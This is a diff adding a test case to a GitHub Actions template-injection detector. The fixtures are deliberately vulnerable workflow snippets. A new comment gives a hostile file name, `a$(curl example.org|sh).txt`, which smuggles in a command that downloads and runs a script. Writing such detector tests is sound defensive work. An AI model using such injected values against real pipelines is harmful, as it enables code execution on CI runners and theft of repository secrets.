@@ -107,6 +107,8 @@ const templateInjection = workflowRule({
       workflow('      # expect\n      - run: |\n          echo "triggered by"\n          # detail\n          echo "${{ github.event.workflow.path }}"\n', 'workflow_run'),
       workflow('      - uses: azure/cli@089eac9d8cc39f5d003e94f8b65efc51076c9cbd # v2.1.0\n        with:\n          # expect\n          inlineScript: |\n            # detail\n            az tag create --name "${{ github.event.pull_request.head.ref }}"\n', 'pull_request'),
       workflow('      - id: branch\n        uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0\n      # expect\n      - run: git push origin "HEAD:${{ steps.branch.outputs.head_ref }}"\n', 'issue_comment'),
+      // A changed file's name is the pull request author's: `a$(curl example.org|sh).txt` is a valid one.
+      workflow('      - id: files\n        uses: masesgroup/retrieve-changed-files@45a8b3b496d2d6037cbd553e8a3450989b9384a2 # v4.0.0\n      # expect\n      - run: echo "${{ steps.files.outputs.all }}" | grep -q requirements.txt\n', 'pull_request'),
       workflow('      - uses: mikefarah/yq@f03c9dc599c37bfcaf533427211d05e51e6fee64 # v4.47.1\n        with:\n          # expect\n          cmd: yq -i \'.title = "${{ github.event.pull_request.title }}"\' meta.yaml\n', 'pull_request_target'),
       'name: greet\ndescription: composite action\ninputs:\n  who:\n    required: true\nruns:\n  using: composite\n  steps:\n    # expect\n    - run: echo "hello ${{ inputs.who }}"\n      shell: bash\n',
       // The title reaches the second script through the first step's output.
